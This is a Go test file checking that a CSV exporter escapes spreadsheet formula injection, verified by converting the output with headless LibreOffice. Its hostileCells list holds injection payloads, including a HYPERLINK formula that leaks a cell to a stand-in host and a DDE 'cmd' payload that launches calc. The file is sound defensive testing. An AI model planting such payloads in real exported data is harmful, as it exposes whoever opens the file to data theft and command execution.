package export

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ppei-iceberg/iceberg/data"
	"github.com/ppei-iceberg/iceberg/export/internal/officetest"
)

// hostileCells are notes typed to run as spreadsheet formulas.
var hostileCells = []string{
	"=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")",
	"+1+2",
	"-2+3",
	"@SUM(1,2)",
	"\t=1+1",
	"\r=2+2",
	"=cmd|' /C calc'!A0",
}

// formulas converts a CSV file with LibreOffice, headless, to a flat
// OpenDocument spreadsheet and returns the formulas it holds.
func formulas(t *testing.T, csvBytes []byte) []string {
	t.Helper()
	src := filepath.Join(t.TempDir(), "shading.csv")
	if err := os.WriteFile(src, csvBytes, 0o644); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(officetest.Convert(t, src, "fods"))
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, part := range strings.Split(string(b), "table:formula=\"")[1:] {
		f, _, _ := strings.Cut(part, "\"")
		out = append(out, f)
	}
	return out
}

// The CSV opens in LibreOffice Calc with every hostile note as text and no
// formula; the same cells written raw do become formulas, so the check
// can fail.
func TestCSVHasNoFormulaInLibreOffice(t *testing.T) {
	fw := data.DefaultFramework()
	r := fullRecord(t, fw, 10)
	for i := range r.Words {
		r.Words[i].Note = hostileCells[i%len(hostileCells)]
	}
	r.Title = "=1+1"
	var buf bytes.Buffer
	if err := WriteCSV(&buf, fw, r, Options{}); err != nil {
		t.Fatal(err)
	}
	if got := formulas(t, buf.Bytes()); len(got) != 0 {
		t.Errorf("LibreOffice found %d formulas in the CSV: %q", len(got), got)
	}
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got, want := rows[1][4], "'"+hostileCells[0]; got != want {
		t.Errorf("note cell %q, want %q (the text as typed, after an apostrophe)", got, want)
	}

	var raw bytes.Buffer
	w := csv.NewWriter(&raw)
	for _, c := range hostileCells {
		_ = w.Write([]string{"x", c})
	}
	w.Flush()
	if got := formulas(t, raw.Bytes()); len(got) == 0 {
		t.Errorf("the unneutralised cells gave no formula either: the check cannot tell")
	}
}
